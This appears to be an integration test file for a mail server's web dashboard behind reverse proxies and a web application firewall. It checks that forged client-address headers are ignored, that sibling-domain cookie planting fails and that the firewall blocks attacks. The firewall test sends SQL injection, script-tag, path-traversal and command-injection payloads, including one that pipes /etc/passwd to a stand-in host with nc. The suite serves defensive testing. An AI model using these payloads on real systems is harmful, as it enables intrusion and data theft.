// Invariant: Only a proxy says where a client of mail comes from, also while the firewall or the guard is down.

import assert from "node:assert/strict";
import type { ChildProcess } from "node:child_process";
import { readFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import type { EventItem } from "../../src/admin/declare/items.ts";
import { openBrowser } from "../lab/browser.ts";
import { AS_NOBODY, endProgram } from "../lab/commands.ts";
import { ANNA, assertAccepted, sendMail, tryLogIn } from "../lab/mail.ts";
import { MAIL_PROXY, startMailProxy, trustProxies } from "../lab/mail-proxy.ts";
import { mailProxyTests } from "../lab/mail-proxy-tests.ts";
import { SERVER } from "../lab/network.ts";
import { ADMIN_PASSWORD } from "../lab/product.ts";
import { DASHBOARD, startReverseProxy } from "../lab/reverse-proxy.ts";
import { until } from "../lab/wait.ts";
import { serverSent, type WebAnswer, WebClient } from "../lab/web-client.ts";
import { describedBy } from "../lab/web-description.ts";
import { GUEST, visits } from "../lab/web-visits.ts";
import { needsLab, withProduct } from "../lab/with-product.ts";

const ANYWHERE = "192.0.2.77";
const LOGIN = "/api/v1/login";

describe("behind a reverse proxy as documented", needsLab(), () => {
  const { lab, product } = withProduct(
    {
      GHOSTINBOX_HTTP__TRUSTED_PROXIES: "127.0.0.1,::1",
      // Makes the page reachable past the proxy, as after a firewall mistake.
      GHOSTINBOX_HTTP__ADDRESS: "0.0.0.0",
    },
    [ANNA],
  );

  const browser = (from: string): Promise<WebClient> => {
    const host = from.startsWith("198.51.100.2") ? lab.attacker : lab.sender;
    return WebClient.overTls(host, { from, to: SERVER.v4, port: 443 }, DASHBOARD);
  };
  const signIn = (
    web: WebClient,
    password: string,
    headers: Readonly<Record<string, string>> = {},
  ): Promise<WebAnswer> =>
    web.ask("POST", LOGIN, { body: { password }, headers: { origin: `https://${DASHBOARD}`, ...headers } });
  const signIns = async (ip: string): Promise<readonly EventItem[]> =>
    (await product.events(ip)).filter(({ account, type }) => account === "admin" && type.startsWith("LOGIN_"));

  for (const [kind, owner, liar, guesser, other] of [
    ["nginx", "198.51.100.70", "198.51.100.71", "198.51.100.201", "198.51.100.202"],
    ["caddy", "198.51.100.80", "198.51.100.81", "198.51.100.211", "198.51.100.212"],
  ] as const)
    describe(kind, () => {
      during(() => startReverseProxy(lab, kind));

      test("the page is there, and its owner signs in from the address that the events name", async () => {
        const web = await browser(owner);
        const page = await web.ask("GET", "/");
        assert.match(page.text, /<title>/);
        for (const answer of [page, await web.ask("GET", "/nowhere")])
          assert.equal(answer.headers["strict-transport-security"], "max-age=31536000", `${answer.status}`);
        const signedIn = await signIn(web, ADMIN_PASSWORD);
        assert.equal(signedIn.status, 200, signedIn.text);
        const [cookie = ""] = (signedIn.headers["set-cookie"] ?? "").split("\n");
        assert.match(cookie, /^__Host-ghostinbox=.*; Path=\/; .*; Secure$/, "it knows of the TLS in front of it");
        const session = web.with({ cookie: cookie.split(";")[0] ?? "" });
        const who = (await session.ask("GET", "/api/v1/session")).json();
        assert.partialDeepStrictEqual(who, { name: "admin", role: "owner" });
        const planted = web.with({ cookie: (cookie.split(";")[0] ?? "").replace("__Host-", "") });
        assert.equal((await planted.ask("GET", "/api/v1/session")).status, 401, "a sibling domain could plant it");
        const kinds = (await signIns(owner)).map(({ type }) => type);
        assert.deepEqual(kinds, ["LOGIN_SUCCEEDED"]);

        const banned = await session.ask("POST", "/api/v1/bans", { body: { ip: ANYWHERE } });
        assert.equal(banned.status, 201, banned.text);
        assert.equal((await product.banOf(ANYWHERE))?.source, `web:admin via ${owner}`);
        await session.ask("DELETE", `/api/v1/bans/${ANYWHERE}`);
        assert.equal((await session.ask("POST", "/api/v1/bans", { body: { ip: owner } })).status, 409, "at work");
      });

      test("a visitor by http is sent to https", async () => {
        const plain = await WebClient.from(lab.sender, { from: owner, to: SERVER.v4, port: 80 });
        const { status, headers } = await plain.ask("GET", "/?x=1", { headers: { host: DASHBOARD } });
        assert.ok([301, 308].includes(status), `${status}`);
        assert.equal(headers["location"], `https://${DASHBOARD}/?x=1`);
      });

      test("below a path of the proxy, the page, its sign-in and the API description keep to that path", async () => {
        const web = await browser(owner);
        const at = (path: string) => new URL(path, `https://${DASHBOARD}/mail-admin/`).pathname;
        const page = await web.ask("GET", at("."));
        const named = [...page.text.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, path = ""]) => path);
        assert.ok(named.length >= 2, page.text);
        for (const path of named) {
          assert.ok(at(path).startsWith("/mail-admin/"), path);
          assert.equal((await web.ask("GET", at(path))).status, 200, path);
        }
        const signedIn = await web.ask("POST", at("api/v1/login"), {
          body: { password: ADMIN_PASSWORD },
          headers: { origin: `https://${DASHBOARD}` },
        });
        assert.equal(signedIn.status, 200, signedIn.text);
        const cookie = signedIn.headers["set-cookie"]?.split(";")[0] ?? "";
        const described = await web.ask("GET", at("openapi.json"), { headers: { cookie } });
        assert.partialDeepStrictEqual(described.json(), { servers: [{ url: "." }] });
        assert.equal(at("."), "/mail-admin/");
      });

      test("the live stream comes through at once", async () => {
        const token = { authorization: `Bearer ${await product.makeToken(`stream-${kind}`)}` };
        const stream = await (await browser(owner)).stream("/api/v1/events/stream", token);
        assert.equal(stream.status, 200);
        await until("the stream starts", () => stream.text().startsWith("retry: "));
        for (const ip of ["192.0.2.78", "192.0.2.79"]) {
          await product.json(["ban", ip, "for the stream"]);
          const isThere = () => serverSent(stream.text()).some(({ data }) => data["ip"] === ip);
          await until(`${ip} is in the stream`, isThere, 3_000);
        }
        stream.close();
        for (const ip of ["192.0.2.78", "192.0.2.79"]) await product.json(["unban", ip]);
      });

      test("a client's own header is ignored", async () => {
        const web = await browser(liar);
        for (const claim of [ANYWHERE, "127.0.0.1", `${ANYWHERE}, 127.0.0.1`])
          assert.equal((await signIn(web, "wrong", { "x-forwarded-for": claim, "x-real-ip": claim })).status, 401);
        assert.equal((await signIns(liar)).length, 3);
        assert.deepEqual(await signIns(ANYWHERE), []);
      });

      // Only with nginx: Caddy serves no sibling's name, and the cookies are the same.
      if (kind === "nginx")
        test("in Chromium a page of a sibling domain cannot plant a session", async (t) => {
          const rules = `--host-resolver-rules=MAP *.example.test ${SERVER.v4}`;
          const opened = await openBrowser(lab.attacker, lab, [rules, "--ignore-certificate-errors"]);
          t.after(() => opened.close());
          const { page } = opened;
          const home = `https://${DASHBOARD}/`;
          const session = async (): Promise<unknown> => {
            await page.goto(home);
            return page.evaluate("fetch('/api/v1/session').then((answer) => answer.status)");
          };
          const plant = async (value: string): Promise<void> => {
            await page.goto("https://sibling.example.test/");
            for (const name of ["ghostinbox", "__Host-ghostinbox", "__host-ghostinbox"])
              for (const path of ["/", "/api/v1/"])
                await page.evaluate(
                  `document.cookie = "${name}=${value}; Domain=example.test; Path=${path}; Secure; SameSite=Lax"`,
                );
          };
          const signedIn = await signIn(await browser(owner), ADMIN_PASSWORD);
          const attackers =
            /^__Host-ghostinbox=([^;]+)/.exec(signedIn.headers["set-cookie"] ?? "")?.[1] ?? assert.fail();
          await plant(attackers);
          assert.equal(await session(), 401, "no one is signed in as another user");
          const asked = JSON.stringify({ password: ADMIN_PASSWORD });
          const options = `{ method: "POST", headers: { "Content-Type": "application/json" }, body: ${JSON.stringify(asked)} }`;
          assert.equal(await page.evaluate(`fetch('${LOGIN}', ${options}).then((answer) => answer.status)`), 200);
          assert.equal(await session(), 200);
          await plant("planted");
          assert.equal(await session(), 200, "nor signed out");
          const cookies = await page.context().cookies(home);
          const hasPlanted = cookies.some(({ name, domain }) => name === "ghostinbox" && domain === ".example.test");
          assert.ok(hasPlanted, "it tried");
          const domains = cookies.filter(({ name }) => name.startsWith("__Host-")).map(({ domain }) => domain);
          assert.deepEqual(domains, [DASHBOARD, DASHBOARD]);
        });

      test("a local user cannot forge a client address, past the proxy or through it", async () => {
        const host = `${DASHBOARD}:443:127.0.0.1`;
        const body = '{"password":"wrong"}';
        const forged = ["Content-Type: application/json", `Host: ${DASHBOARD}`, `X-Forwarded-For: ${ANYWHERE}`];
        const before = (await signIns("127.0.0.1")).length;
        for (const url of [`http://127.0.0.1:3000${LOGIN}`, `https://${DASHBOARD}${LOGIN}`]) {
          const asked = ["curl", "-sk", "--resolve", host, ...forged.flatMap((line) => ["-H", line]), "-d", body, url];
          assert.match(await lab.server.mustExec([...AS_NOBODY, ...asked]), /"status":401/);
        }
        assert.deepEqual(await signIns(ANYWHERE), []);
        assert.equal((await signIns("127.0.0.1")).length, before + 2);
      });

      test("a guesser is banned by its own address, and the proxy serves others", async () => {
        const web = await browser(guesser);
        for (let i = 1; i <= 5; i++) await signIn(web, `guess ${i}`).catch(() => null);
        assert.equal((await until("the guesser is banned", () => product.banOf(guesser))).code, "login_failures");
        const reaches = () => lab.attacker.reaches({ from: guesser, to: SERVER.v4, port: 443, timeoutMs: 500 });
        await until("the proxy is out of reach", async () => !(await reaches()));
        assert.equal((await signIn(await browser(other), ADMIN_PASSWORD)).status, 200);
      });
    });

  describe("a web application firewall", () => {
    during(() => startReverseProxy(lab, "waf"));

    test("passes every page and every call unchanged", async () => {
      const queueId = assertAccepted(await sendMail({ host: lab.sender, from: GUEST }));
      await tryLogIn(lab.sender, GUEST, ANNA, "a wrong one");
      const web = (await browser("198.51.100.74")).with({ origin: `https://${DASHBOARD}`, host: DASHBOARD });
      const [cookie = ""] = ((await signIn(web, ADMIN_PASSWORD)).headers["set-cookie"] ?? "").split(";");
      const token = { authorization: `Bearer ${await product.makeToken("waf", "--scope", "owner")}` };
      const described = describedBy((await web.ask("GET", "/openapi.json", { headers: token })).json());
      const different: string[] = [];
      for (const [route, asked] of Object.entries(visits(queueId))) {
        const [method = "", template = ""] = route.split(" ");
        const isOpen = described.operation(route).security.some((way) => "token" in way);
        for (const { path = template, body, headers, answers } of asked) {
          const answer = await web.ask(method, path, {
            body,
            headers: { ...(isOpen ? token : { cookie }), ...headers },
          });
          if (answer.status !== answers)
            different.push(`${method} ${path}: ${answer.status} for ${answers} ${answer.text.slice(0, 200)}`);
        }
      }
      assert.deepEqual(different, []);
    });

    test("refuses attacks before they arrive, but passes a password that looks like one", async () => {
      const web = (await browser("198.51.100.75")).with({
        host: DASHBOARD,
        authorization: `Bearer ${await product.makeToken("attacker")}`,
      });
      const attacks: readonly (readonly [string, string, unknown?, Readonly<Record<string, string>>?])[] = [
        ["GET", "/api/v1/events?ip=1%27%20UNION%20SELECT%20password%20FROM%20admin--%20-"],
        ["GET", "/api/v1/events?type=%3Cscript%3Ealert(1)%3C%2Fscript%3E"],
        ["GET", "/?file=..%2f..%2f..%2f..%2fetc%2fpasswd"],
        ["GET", "/api/v1/why/%2e%2e%2f%2e%2e%2fetc%2fpasswd"],
        ["POST", "/api/v1/bans", { ip: "192.0.2.99", reason: "1' OR '1'='1' UNION SELECT hash FROM admin --" }],
        ["POST", "/api/security", { action: "ban", ip: "192.0.2.99", reason: "<script>fetch('//evil.test')</script>" }],
        ["POST", "/api/v1/bans", { ip: "192.0.2.99", reason: "x; cat /etc/passwd | nc evil.test 1" }],
        ["GET", "/", undefined, { "user-agent": "sqlmap/1.7" }],
      ];
      const passed: string[] = [];
      for (const [method, path, body, headers = {}] of attacks) {
        const answer = await web.ask(method, path, { body, headers });
        const isRefused = answer.status === 403 && /text\/html/.test(answer.headers["content-type"] ?? "");
        if (!isRefused) passed.push(`${method} ${path} ${JSON.stringify(body)}: ${answer.status}`);
      }
      assert.deepEqual(passed, []);
      assert.equal(await product.banOf("192.0.2.99"), undefined);
      const odd = await signIn(await browser("198.51.100.75"), "' OR 1=1 -- <script>alert(1)</script>");
      assert.equal(odd.status, 401, "it reached the server");
      const secret = "' OR 1=1 -- <script>alert('kept-secret')</script> GET / HTTP/1.1";
      for (const [path, body] of [
        ["session/proof", { password: secret, code: secret }],
        ["accounts", { name: "new@example.test", password: secret }],
        [`accounts/${ANNA}/password`, { password: secret }],
        ["accounts/import", { file: `new@example.test|{PLAIN}${secret}` }],
        ["factors/totp/confirm", { code: secret }],
        ["me/password", { password: secret }],
        ["login", { account: ANNA, password: secret, code: secret }],
      ] as const) {
        const headers = { cookie: `__Host-ghostinbox=${secret}`, authorization: `Bearer ${secret}` };
        const { headers: answered } = await web.ask("POST", `/api/v1/${path}`, { body, headers });
        assert.match(answered["content-type"] ?? "", /json/, `${path} reached the server`);
      }
      const log = readFileSync(lab.path("waf", "modsec_audit.log"), "utf8");
      assert.match(log, /id "942\d{3}"/);
      assert.doesNotMatch(log, /Bearer gi_|a long phrase|kept-secret/);
    });
  });

  describe("HAProxy before the mail ports", () => {
    during(() => startMailProxy(lab));
    before(() => trustProxies(product, [MAIL_PROXY, "127.0.0.1"]));
    mailProxyTests({ lab, product }, ANNA);
  });

  test("the headers of a client that bypasses the proxy are ignored", async () => {
    const from = "198.51.100.90";
    const web = await WebClient.from(lab.sender, { from, to: SERVER.v4, port: 3000 });
    const forged = {
      host: SERVER.v4,
      origin: `http://${SERVER.v4}`,
      "x-forwarded-for": ANYWHERE,
      "x-forwarded-proto": "https",
    };
    assert.equal((await web.ask("POST", LOGIN, { body: { password: "wrong" }, headers: forged })).status, 401);
    assert.equal((await signIns(from)).length, 1);
    assert.deepEqual(await signIns(ANYWHERE), []);
    const signedIn = await web.ask("POST", LOGIN, { body: { password: ADMIN_PASSWORD }, headers: forged });
    assert.doesNotMatch(signedIn.headers["set-cookie"] ?? "", /Secure/);
  });
});

/** Runs a program for the tests of a `describe`. */
function during(start: () => Promise<ChildProcess>): void {
  let program: ChildProcess;
  before(async () => {
    program = await start();
  });
  after(() => endProgram(program));
}
